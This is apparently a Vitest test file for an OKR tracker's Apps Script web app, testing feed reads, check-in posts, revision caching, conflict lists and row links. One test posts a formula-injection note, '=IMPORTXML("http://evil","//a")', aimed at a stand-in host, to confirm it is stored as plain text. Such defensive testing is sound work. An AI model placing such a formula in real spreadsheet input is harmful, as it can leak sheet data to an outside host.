// The web app as the extension uses it: doGet/doPost of the built Code.js over a tracker set up
// by the add-on's own action. Google cannot be reached, so the runtime stands in for it.
import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import Ajv2020 from 'ajv/dist/2020.js';
import { trackerIdentity } from '../../apps-script/tracker-identity.js';
import type { FeedCheckIn, FeedKeyResult, FeedKpi } from '../../shared/feed/feed.js';
import { get, newTracker, NOW, post, publish, type Tracker } from './harness.js';

const schema = JSON.parse(readFileSync(new URL('../../shared/feed/feed.schema.json', import.meta.url), 'utf8'));

let tracker: Tracker | undefined;
afterEach(() => tracker?.runtime.destroy());

function published(): { tracker: Tracker; token: string } {
  tracker = newTracker();
  return { tracker, token: publish(tracker) };
}

const checkIn = (token: string, extra: Record<string, unknown> = {}) => ({ token, id: 'KR6', value: 7, confidence: 8, note: 'Two more signed', requestId: `req-${Math.random().toString(36).slice(2, 12)}`, ...extra });

describe('GET: the feed', () => {
  it('validates against the feed schema', () => {
    const { tracker, token } = published();
    const feed = get(tracker, { token });
    const ajv = new Ajv2020({ allErrors: true, strict: true, allowUnionTypes: true });
    const valid = ajv.validate(schema, feed);
    expect(ajv.errors ?? []).toEqual([]);
    expect(valid).toBe(true);
    expect(feed.keyResults).toHaveLength(6);
  });

  it('agrees with the grades the sheet computes', () => {
    const { tracker, token } = published();
    const feed = get(tracker, { token });
    const sheet = Object.fromEntries(tracker.records('Key Results').map((r) => [r.ID, r.Grade]));
    for (const kr of feed.keyResults) expect(kr.grade).toBeCloseTo(sheet[kr.id] as number, 12);
    expect(feed.keyResults.filter((k: FeedKeyResult) => k.due).map((k: FeedKeyResult) => k.id)).toEqual(['KR2', 'KR4', 'KR5', 'KR6']);
    const objectives = Object.fromEntries(tracker.records('Objectives').map((r) => [r.ID, [r.Grade, r.Status]]));
    expect(feed.objectives).toHaveLength(4);
    for (const o of feed.objectives) {
      expect(o.grade).toBeCloseTo(objectives[o.id][0] as number, 12);
      expect(o.status).toBe(String(objectives[o.id][1]).toLowerCase().replace(' ', '-'));
    }
    const kpis = Object.fromEntries(tracker.records('KPIs').map((r) => [r.ID, r.Status]));
    for (const k of feed.kpis) expect(k.status).toBe(String(kpis[k.id]).toLowerCase());
  });

  it.each([
    [{}, 'unauthorized', 'missing'],
    [{ token: 'wrong-token' }, 'unauthorized', 'wrong'],
  ])('refuses %j with %s', (query, code, words) => {
    const { tracker } = published();
    const answer = get(tracker, query as Record<string, string>);
    expect(answer.error.code).toBe(code);
    expect(answer.error.message).toContain(words);
  });

  it('says how to publish when the tracker has no token yet', () => {
    tracker = newTracker();
    expect(get(tracker, { token: 'anything' }).error.message).toContain('Publish for the browser extension');
  });

  it('answers a second request from the cache without reading the sheet', () => {
    const { tracker, token } = published();
    get(tracker, { token });
    tracker.runtime.calls.reset();
    const again = get(tracker, { token });
    expect(again.version).toBe(1);
    expect(tracker.runtime.calls.count('Range.getValues')).toBe(0);
  });
});

describe('POST: a check-in', () => {
  it('appends one row to the log and answers with the updated key result', () => {
    const { tracker, token } = published();
    const before = tracker.records('Check-ins').length;
    const answer = post(tracker, checkIn(token));
    expect(answer.ok).toBe(true);
    expect(answer.keyResult.id).toBe('KR6');
    expect(answer.keyResult.current).toBe(7);
    expect(answer.keyResult.grade).toBeCloseTo(7 / 12, 12);
    const log = tracker.records('Check-ins');
    expect(log).toHaveLength(before + 1);
    expect(log.at(-1)).toMatchObject({ ID: 'KR6', Value: 7, Confidence: 8, Note: 'Two more signed', 'Request ID': answer.checkIn.requestId });
  });

  it('is safe to retry: a known request ID writes nothing and returns the original', () => {
    const { tracker, token } = published();
    const request = checkIn(token);
    const first = post(tracker, request);
    const count = tracker.records('Check-ins').length;
    const second = post(tracker, { ...request, value: 999 });
    expect(second.duplicate).toBe(true);
    expect(second.checkIn).toEqual(first.checkIn);
    expect(tracker.records('Check-ins')).toHaveLength(count);
  });

  it('serves the new value in the feed at once (the cache follows writes)', () => {
    const { tracker, token } = published();
    get(tracker, { token });
    const answer = post(tracker, checkIn(token, { value: 9 }));
    const kr6 = get(tracker, { token }).keyResults.find((k: FeedKeyResult) => k.id === 'KR6');
    expect(kr6.current).toBe(9);
    // The answer is computed from the key result's own rows only; it must equal the full feed's entry.
    expect(answer.keyResult).toEqual(kr6);
    const kpi = post(tracker, checkIn(token, { id: 'KPI4', value: 520 }));
    expect(kpi.kpi).toEqual(get(tracker, { token }).kpis.find((k: FeedKpi) => k.id === 'KPI4'));
    expect(kpi.kpi.status).toBe('healthy');
  });

  it('loses none of 50 interleaved check-ins', () => {
    const { tracker, token } = published();
    const before = tracker.records('Check-ins').length;
    const ids = ['KR1', 'KR2', 'KR3', 'KR6', 'KPI1'];
    const requests = Array.from({ length: 50 }, (_, i) => checkIn(token, { id: ids[i % ids.length], value: i / 100, requestId: `interleaved-${i}` }));
    for (const r of requests) expect(post(tracker, r).ok).toBe(true);
    for (const r of requests.slice(0, 10)) expect(post(tracker, r).duplicate).toBe(true);
    const log = tracker.records('Check-ins').slice(before);
    expect(log.map((r) => r['Request ID']).sort()).toEqual(requests.map((r) => r.requestId).sort());
  });

  it.each([
    ['not JSON', '{"token":', 'bad-request', 'not valid JSON'],
    ['an array', '[]', 'bad-request', 'JSON object'],
    ['too large', JSON.stringify({ note: 'x'.repeat(20_000) }), 'bad-request', 'too large'],
    ['no token', { token: undefined, id: 'KR1', value: 1, requestId: 'abcdefgh1' }, 'unauthorized', 'missing'],
    ['a wrong token', { token: 'nope', id: 'KR1', value: 1, requestId: 'abcdefgh1' }, 'unauthorized', 'wrong'],
    ['an unknown ID', { id: 'KR99', value: 1, requestId: 'abcdefgh1' }, 'not-found', 'KR99'],
    ['a non-numeric value', { id: 'KR1', value: 'lots', requestId: 'abcdefgh1' }, 'bad-request', 'takes a number'],
    ['a bad milestone value', { id: 'KR5', value: 'soon', requestId: 'abcdefgh1' }, 'bad-request', 'not a progress'],
    ['no request ID', { id: 'KR1', value: 1 }, 'bad-request', 'requestId'],
    ['a confidence of 11', { id: 'KR1', value: 1, confidence: 11, requestId: 'abcdefgh1' }, 'bad-request', '1 to 10'],
  ])('refuses %s', (_name, body, code, words) => {
    const { tracker, token } = published();
    const before = tracker.records('Check-ins').length;
    const withToken = typeof body === 'string' ? body : { token, ...(body as object) };
    const answer = post(tracker, withToken);
    expect(answer.error.code).toBe(code);
    expect(answer.error.message).toContain(words);
    expect(tracker.records('Check-ins')).toHaveLength(before);
  });

  it('stores text that looks like a formula as text', () => {
    const { tracker, token } = published();
    post(tracker, checkIn(token, { note: '=IMPORTXML("http://evil","//a")' }));
    const sheet = tracker.spreadsheet.getSheetByName('Check-ins')!;
    const last = sheet.getLastRow();
    expect(sheet.getRange(last, 1, 1, 7).getFormulas()[0].every((f) => f === '')).toBe(true);
    // The cell keeps the guard's apostrophe (a CSV download stays safe); the feed gives the note as sent.
    expect(tracker.records('Check-ins').at(-1)!.Note).toBe('\'=IMPORTXML("http://evil","//a")');
    const feed = get(tracker, { token, fresh: 'after' });
    expect(feed.keyResults.find((k: FeedKeyResult) => k.id === 'KR6').history.at(-1).note).toBe('=IMPORTXML("http://evil","//a")');
  });

  it('answers conflict when the tracker stays locked', () => {
    const { tracker, token } = published();
    tracker.runtime.locks.holdScriptLock();
    expect(post(tracker, checkIn(token)).error.code).toBe('conflict');
  });

  it('never echoes the token in errors or logs', () => {
    const { tracker, token } = published();
    const answers = [get(tracker, { token: `${token}x` }), post(tracker, { token: `${token}x`, id: 'KR1', value: 1, requestId: 'abcdefgh1' }), post(tracker, checkIn(token, { id: 'nope' }))];
    for (const answer of answers) expect(JSON.stringify(answer)).not.toContain(token);
    expect(tracker.runtime.logs.join('\n')).not.toContain(token);
  });
});

/** Spreadsheet service calls (any class of it) since the last reset. */
const spreadsheetCalls = (tracker: Tracker) => ['SpreadsheetApp', 'Spreadsheet', 'Sheet', 'Range'].reduce((n, service) => n + tracker.runtime.calls.byService(service), 0);

describe('GET ?since=: fresh without cost', () => {
  it('carries the revision and the advised poll interval in the feed', () => {
    const { tracker, token } = published();
    const feed = get(tracker, { token });
    expect(feed.revision).toMatch(/^\d+\.\d{4}-\d{2}-\d{2}\.[0-9a-z]+$/);
    expect(feed.minRefreshMinutes).toBeGreaterThanOrEqual(1);
  });

  it('answers unchanged for the current revision without a single Spreadsheet call', () => {
    const { tracker, token } = published();
    const feed = get(tracker, { token });
    tracker.runtime.calls.reset();
    expect(get(tracker, { token, since: feed.revision })).toEqual({ unchanged: true, revision: feed.revision, minRefreshMinutes: feed.minRefreshMinutes });
    expect(spreadsheetCalls(tracker)).toBe(0);
  });

  it('reads the sheet again once the cached feed expired, so a change no trigger saw shows within minutes', () => {
    const { tracker, token } = published();
    const feed = get(tracker, { token });
    // A write by another script fires no onEdit: the revision stays, the content changes.
    const row = tracker.column('Key Results', 'ID').indexOf('KR6') + 2;
    const column = tracker.spreadsheet.getSheetByName('Key Results')!.getDataRange().getValues()[0].indexOf('Key result') + 1;
    tracker.spreadsheet.getSheetByName('Key Results')!.getRange(row, column).setValue('Sign 14 launch partners');
    expect(get(tracker, { token, since: feed.revision }).unchanged).toBe(true);
    tracker.runtime.clock.advance(11 * 60_000);
    tracker.runtime.calls.reset();
    const again = get(tracker, { token, since: feed.revision });
    expect(again.keyResults.find((k: FeedKeyResult) => k.id === 'KR6').title).toBe('Sign 14 launch partners');
    // The content hash in the revision moved, though no onEdit bumped the counter.
    expect(again.revision).not.toBe(feed.revision);
    expect(tracker.runtime.calls.count('Range.getValues')).toBeGreaterThan(0);
  });

  it('serves the cached feed, still without reading the sheet, when the cache holds the revision', () => {
    const { tracker, token } = published();
    const feed = get(tracker, { token });
    tracker.runtime.calls.reset();
    expect(get(tracker, { token, since: 'an-older-revision' })).toEqual(feed);
    expect(spreadsheetCalls(tracker)).toBe(0);
  });

  it.each([
    ['an empty since', ''],
    ['an unknown revision', '999999.2000-01-01'],
    ['a revision of another day', 'x'],
  ])('answers the whole feed for %s', (_name, since) => {
    const { tracker, token } = published();
    const current = get(tracker, { token }).revision;
    const answer = get(tracker, { token, since: since === 'x' ? current.replace(/\d{4}-\d{2}-\d{2}(?=\.)/, '2000-01-01') : since });
    expect(answer.keyResults).toHaveLength(6);
    expect(answer.revision).toBe(current);
  });

  it('checks the token before saying unchanged', () => {
    const { tracker, token } = published();
    const { revision } = get(tracker, { token });
    expect(get(tracker, { token: 'wrong-token', since: revision }).error.code).toBe('unauthorized');
  });

  const writes: [string, (tracker: Tracker, token: string) => void][] = [
    ['a check-in from the extension', (tracker, token) => expect(post(tracker, checkIn(token)).ok).toBe(true)],
    ['a check-in from the sidebar', (tracker) => expect(tracker.addOn.okrSidebarCheckIn({ id: 'KR2', value: '26', requestId: 'sidebar-rev-1' }).ok).toBe(true)],
    ['an edit in the sheet', (tracker) => tracker.addOn.onEdit({})],
    ['setting up the tracker from the menu', (tracker) => tracker.addOn.okrSetUpTracker()],
    ['promoting a KPI', (tracker) => expect(tracker.addOn.okrSheets.promoteKpi(tracker.spreadsheet, tracker.addOn.okrSheets.silentDialogs(true), NOW.getTime())).not.toBeNull()],
    ['closing the quarter', (tracker) => expect(tracker.addOn.okrSheets.closeQuarter(tracker.spreadsheet, tracker.addOn.okrSheets.silentDialogs(true))).not.toBeNull()],
  ];
  it.each(writes)('changes the revision after %s, so the next poll gets the whole feed', (_name, write) => {
    const { tracker, token } = published();
    const before = get(tracker, { token }).revision;
    write(tracker, token);
    const answer = get(tracker, { token, since: before });
    expect(answer.unchanged).toBeUndefined();
    expect(answer.revision).not.toBe(before);
    expect(get(tracker, { token, since: answer.revision }).unchanged).toBe(true);
  });
});

/** Appends rows to the Check-ins log as people typing into the sheet would. */
function logRows(tracker: Tracker, rows: [Date, string, number, string, string][]): void {
  const sheet = tracker.spreadsheet.getSheetByName('Check-ins')!;
  const first = tracker.records('Check-ins').length + 2;
  sheet.getRange(first, 1, rows.length, 7).setValues(rows.map(([time, id, value, by, requestId]) => [time, id, value, '', '', by, requestId]));
}

describe('POST with seenLastCheckIn: conflict answers', () => {
  const hour = 3_600_000;

  function seenKr6(tracker: Tracker, token: string): { seen: string; time: number } {
    const seen = get(tracker, { token }).keyResults.find((k: FeedKeyResult) => k.id === 'KR6').lastCheckIn as string;
    return { seen, time: Date.parse(seen) };
  }

  it("records the check-in and lists the ones logged since the user's view, oldest first", () => {
    const { tracker, token } = published();
    const { seen, time } = seenKr6(tracker, token);
    logRows(tracker, [
      [new Date(time + 2 * hour), 'KR6', 9, 'carol@example.com', 'carol-0001'],
      [new Date(time - hour), 'KR6', 4, 'old@example.com', 'older-0001'],
      [new Date(time + hour), 'KR6', 8, 'bob@example.com', 'bob-00001'],
      [new Date(time + 3 * hour), 'KR1', 50, 'dan@example.com', 'other-kr-1'],
    ]);
    const before = tracker.records('Check-ins').length;
    const answer = post(tracker, checkIn(token, { value: 7, seenLastCheckIn: seen }));
    expect(tracker.records('Check-ins')).toHaveLength(before + 1);
    expect(tracker.records('Check-ins').at(-1)).toMatchObject({ ID: 'KR6', Value: 7, 'Request ID': answer.checkIn.requestId });
    expect(answer.since.map((c: FeedCheckIn) => [c.time, c.id, c.value, c.by])).toEqual([
      [new Date(time + hour).toISOString(), 'KR6', 8, 'bob@example.com'],
      [new Date(time + 2 * hour).toISOString(), 'KR6', 9, 'carol@example.com'],
    ]);
    // The answer's key result is the newest state, the same the feed now serves.
    expect(answer.keyResult).toEqual(get(tracker, { token }).keyResults.find((k: FeedKeyResult) => k.id === 'KR6'));
  });

  it('lists nothing when nobody checked in since the view', () => {
    const { tracker, token } = published();
    const answer = post(tracker, checkIn(token, { seenLastCheckIn: seenKr6(tracker, token).seen }));
    expect(answer.since).toEqual([]);
  });

  it('lists every earlier check-in of the key result when the user saw none', () => {
    const { tracker, token } = published();
    const logged = tracker.records('Check-ins').filter((r) => r.ID === 'KR6').length;
    const answer = post(tracker, checkIn(token, { seenLastCheckIn: null }));
    expect(answer.since).toHaveLength(logged);
    expect(answer.since.every((c: FeedCheckIn) => c.id === 'KR6')).toBe(true);
    const times = answer.since.map((c: FeedCheckIn) => Date.parse(c.time));
    expect(times).toEqual([...times].sort((a, b) => a - b));
  });

  it('has no since at all when the request does not say what the user saw', () => {
    const { tracker, token } = published();
    expect('since' in post(tracker, checkIn(token))).toBe(false);
  });

  it('answers a retry with the same list, never counting its own row', () => {
    const { tracker, token } = published();
    const { seen, time } = seenKr6(tracker, token);
    logRows(tracker, [[new Date(time + 1000), 'KR6', 8, 'bob@example.com', 'bob-00002']]);
    const request = checkIn(token, { seenLastCheckIn: seen });
    const first = post(tracker, request);
    const retry = post(tracker, request);
    expect(retry.duplicate).toBe(true);
    expect(retry.since).toEqual(first.since);
    expect(first.since.map((c: FeedCheckIn) => c.requestId)).toEqual(['bob-00002']);
  });

  it('refuses a seenLastCheckIn that is not a time, writing nothing', () => {
    const { tracker, token } = published();
    const before = tracker.records('Check-ins').length;
    const answer = post(tracker, checkIn(token, { seenLastCheckIn: 'last Tuesday' }));
    expect(answer.error).toMatchObject({ code: 'bad-request', message: expect.stringContaining('seenLastCheckIn') });
    expect(tracker.records('Check-ins')).toHaveLength(before);
  });
});

describe('row links', () => {
  /** The ID in column A of the row a link points at, read through the link's gid and range. */
  function idAt(tracker: Tracker, link: string): unknown {
    const match = /#gid=(\d+)&range=A(\d+)$/.exec(link);
    if (match === null) throw new Error(`not a row link: ${link}`);
    const sheet = tracker.spreadsheet.getSheets().find((s) => s.getSheetId() === Number(match[1]));
    return sheet?.getRange(Number(match[2]), 1).getValue();
  }

  it.each(['Key Results', 'KPIs', 'Objectives'])('links each row of %s to the row that holds its ID', (sheet) => {
    const { tracker } = published();
    const { rowLink, trackerUrl } = trackerIdentity(tracker.spreadsheet);
    const ids = tracker.column(sheet, 'ID');
    expect(ids.length).toBeGreaterThan(0);
    ids.forEach((id, index) => {
      const link = rowLink(sheet, index);
      expect(link?.startsWith(`${trackerUrl}#gid=`)).toBe(true);
      expect(idAt(tracker, link!)).toBe(id);
    });
  });

  it.each([
    ['a sheet that does not exist', 'Nope', 0],
    ['a negative row', 'Key Results', -1],
    ['a fractional row', 'Key Results', 1.5],
  ])('gives null for %s', (_name, sheet, index) => {
    const { tracker } = published();
    expect(trackerIdentity(tracker.spreadsheet).rowLink(sheet, index)).toBeNull();
  });

  it('looks each sheet up once, whatever the number of links', () => {
    const { tracker } = published();
    const { rowLink } = trackerIdentity(tracker.spreadsheet);
    tracker.runtime.calls.reset();
    for (let i = 0; i < 50; i++) rowLink('Key Results', i);
    expect(tracker.runtime.calls.count('Sheet.getSheetId')).toBe(1);
  });

  // The feed and a check-in answer (built from one row) must both link to the real row.
  it("links each key result of the feed and of a check-in answer to the key result's row", () => {
    const { tracker, token } = published();
    const feed = get(tracker, { token });
    for (const kr of feed.keyResults) expect(idAt(tracker, kr.link)).toBe(kr.id);
    const answer = post(tracker, checkIn(token));
    expect(idAt(tracker, answer.keyResult.link)).toBe('KR6');
  });
});
